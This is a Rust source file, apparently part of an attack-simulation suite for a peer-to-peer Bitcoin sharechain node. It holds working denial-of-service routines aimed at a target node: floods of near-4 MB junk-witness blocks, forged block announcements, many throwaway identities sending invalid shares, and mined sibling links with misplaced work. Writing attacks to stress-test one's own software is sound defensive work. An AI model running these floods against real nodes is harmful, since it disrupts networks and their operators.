//! Attacks by gossip.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use bitcoin::consensus::encode::serialize;
use bitcoin::hashes::Hash;
use bitcoin::{Amount, TxMerkleNode, TxOut, Witness};
use futures::AsyncWriteExt;
use p2p_proto::Gossip;
use p2p_proto::message::{Item, Topic};
use sharechain::check::binding::merkle_root;
use sharechain::coinbase::Coinbase;
use sharechain::share::EXTRANONCE_BYTES;
use sharechain::{ChainParams, Proof, ShareId, U256};
use sim::pow::grind;

use super::client::{Client, Over};
use super::context::{Context, count};
use super::wire;

/// Bytes of junk in a block's witness: the block stays below 4,000,000 weight units.
const JUNK_BYTES: usize = 3_900_000;

/// First byte of gossip about a Bitcoin block.
const BITCOIN_BLOCK: u8 = 3;

/// Blocks a second: 30 MB.
const BLOCKS_PER_S: f64 = 7.75;

/// Work of a side link: 2^16 hashes. Nodes ignore proofs that are far easier than the tip's shares.
const SIDE_LINK_WORK_BITS: usize = 16;

/// Bad shares of an identity.
const BAD_SHARES: u64 = 5;

/// Sends gossip on a stream that stays open, and counts it.
struct Speaker<'a> {
    context: &'a Context,
    client: Client,
    stream: libp2p::core::muxing::SubstreamBox,
}

impl<'a> Speaker<'a> {
    async fn connect(context: &'a Context, number: usize, of: usize) -> Self {
        loop {
            let client = context.connect(context.from(number, of), Over::Tcp).await;
            if let Ok(mut stream) = client.open_gossip().await
                && stream.write_all(&wire::subscriptions(&context.target.network)).await.is_ok()
            {
                return Self { context, client, stream };
            }
        }
    }

    async fn say(&mut self, gossip: &Gossip) -> io::Result<()> {
        self.say_bytes(gossip.topic().name(), &gossip.encode()).await
    }

    async fn say_bytes(&mut self, topic: &str, bytes: &[u8]) -> io::Result<()> {
        if self.client.is_closed() {
            return Err(io::ErrorKind::BrokenPipe.into());
        }
        let frame = wire::publish(&self.context.target.network, topic, bytes);
        // The node may close the connection before it has read all of it.
        count(&self.context.counts().messages);
        self.stream.write_all(&frame).await?;
        self.stream.flush().await
    }
}

/// Bytes after their length, as in gossip.
fn counted(bytes: &[u8]) -> Vec<u8> {
    [&u32::try_from(bytes.len()).unwrap_or(u32::MAX).to_le_bytes()[..], bytes].concat()
}

/// Sends copies of a block, each with another witness, which neither its hash nor its transactions' ids commit to.
/// Every other identity sends copies of its announcement instead, each with another nonce and with ids of no
/// transactions. A node understands one or the other.
pub(super) async fn junk_blocks(context: Context) -> io::Result<()> {
    let mut block = context.block()?;
    let proof = context.proof(ShareId::from(block.block_hash())).await;
    let coinbase = block.txdata.first_mut().ok_or_else(|| io::Error::other("a block without transactions"))?;
    coinbase.input[0].witness = Witness::from_slice(&[vec![0x55; JUNK_BYTES]]);
    let block = serialize(&block);
    let mut ticks = tokio::time::interval(Duration::from_secs_f64(1.0 / BLOCKS_PER_S));
    let mut number = 0_u64;
    for identity in 0.. {
        let mut speaker = Speaker::connect(&context, 0, 1).await;
        loop {
            ticks.tick().await;
            number += 1;
            let bytes = match &proof {
                Some(proof) if identity % 2 == 1 => announcement(proof, number),
                _ => junk_block(&block, number),
            };
            if speaker.say_bytes(Topic::BitcoinBlocks.name(), &bytes).await.is_err() {
                break;
            }
        }
    }
    Ok(())
}

/// A copy of a block with a number in the middle of the junk.
fn junk_block(block: &[u8], number: u64) -> Vec<u8> {
    let mut copy = block.to_vec();
    let middle = copy.len() / 2;
    copy[middle..middle + 8].copy_from_slice(&number.to_le_bytes());
    [&[BITCOIN_BLOCK][..], &counted(&copy)].concat()
}

/// A copy of a block's announcement, with this nonce and the resulting ids.
fn announcement(proof: &Proof, number: u64) -> Vec<u8> {
    let ids = [number.to_le_bytes()[..6].to_vec(), vec![0x55; 6 * 4_000]].concat();
    let count = u32::try_from(ids.len() / 6).unwrap_or(u32::MAX).to_le_bytes();
    [&[BITCOIN_BLOCK][..], &counted(&proof.encode()), &number.to_le_bytes(), &count, &ids].concat()
}

/// Returns a share that commits to nothing.
fn bad_share(like: &Proof, number: u64) -> Gossip {
    let mut proof = like.clone();
    let mut root = [7; 32];
    root[..8].copy_from_slice(&number.to_le_bytes());
    proof.header.merkle_root = TxMerkleNode::from_byte_array(root);
    Gossip::Share(Box::new(proof))
}

async fn example(context: &Context) -> io::Result<Proof> {
    let Item { proof, .. } = context.first_links(1).await?.swap_remove(0);
    Ok(proof)
}

/// Sends a few bad shares by each of many identities.
pub(super) async fn bad_identities(context: Context) -> io::Result<()> {
    let proof = Arc::new(example(&context).await?);
    let mut ticks = tokio::time::interval(Duration::from_secs(1) / 77);
    let mut going = tokio::task::JoinSet::new();
    for number in 0_u64.. {
        ticks.tick().await;
        while going.try_join_next().is_some() {}
        if going.len() >= 256 {
            continue;
        }
        let (context, proof) = (context.clone(), Arc::clone(&proof));
        going.spawn(async move {
            let place = usize::try_from(number).unwrap_or_default();
            let mut speaker = Speaker::connect(&context, place, 16).await;
            for share in 0..BAD_SHARES {
                if speaker.say(&bad_share(&proof, number * BAD_SHARES + share)).await.is_err() {
                    return;
                }
            }
            // Until it is cut off, or a second has passed.
            let _ = tokio::time::timeout(Duration::from_secs(1), speaker.client.closed()).await;
        });
    }
    Ok(())
}

/// Floods with invalid shares, by one identity after another.
pub(super) async fn invalid_shares(context: Context) -> io::Result<()> {
    let proof = example(&context).await?;
    let mut ticks = tokio::time::interval(Duration::from_millis(5));
    let mut number = 0;
    loop {
        let mut speaker = Speaker::connect(&context, 0, 1).await;
        'connected: loop {
            ticks.tick().await;
            for _ in 0..10 {
                number += 1;
                if speaker.say(&bad_share(&proof, number)).await.is_err() {
                    break 'connected;
                }
            }
        }
    }
}

/// Mines siblings of an early link and sends them: each has a link's work, and only its place is wrong.
pub(super) async fn side_links(context: Context) -> io::Result<()> {
    let items = context.first_links(1).await?;
    let item = items.first().ok_or_else(|| io::Error::other("the victim shows no links"))?.clone();
    let list = item.list.clone().unwrap_or_default();
    let (links, mut mined) = tokio::sync::mpsc::channel(16);
    std::thread::spawn(move || {
        for number in 0.. {
            if links.blocking_send(sibling(&item.proof, number)).is_err() {
                return;
            }
        }
    });
    let mut speaker = Speaker::connect(&context, 0, 1).await;
    while let Some(proof) = mined.recv().await {
        let link = Gossip::Link { proof: Box::new(proof), list: list.clone() };
        while speaker.say(&link).await.is_err() {
            speaker = Speaker::connect(&context, 0, 1).await;
        }
    }
    Ok(())
}

/// Mines a sibling of a link: the same share with another extranonce. An early link pays its finder alone, so its payouts
/// are known.
fn sibling(like: &Proof, number: u64) -> Proof {
    let mut proof = like.clone();
    proof.extranonce = [0x5a; EXTRANONCE_BYTES];
    proof.extranonce[..8].copy_from_slice(&number.to_le_bytes());
    let value = Amount::from_sat(proof.share.coinbase_value);
    let payouts = [TxOut { value, script_pubkey: proof.share.payout.clone() }];
    let (extranonce, witness_commitment) = (&proof.extranonce, proof.witness_commitment.as_ref());
    let coinbase = Coinbase { share: &proof.share, payouts: &payouts, extranonce, witness_commitment };
    let coinbase = coinbase.build(&ChainParams::local().consensus_id());
    proof.prefix = coinbase.prefix();
    let root = merkle_root(coinbase.txid().to_byte_array(), &proof.branch);
    proof.header.merkle_root = TxMerkleNode::from_byte_array(root);
    proof.header.nonce = 0;
    grind(&mut proof.header, U256::MAX >> SIDE_LINK_WORK_BITS);
    proof
}
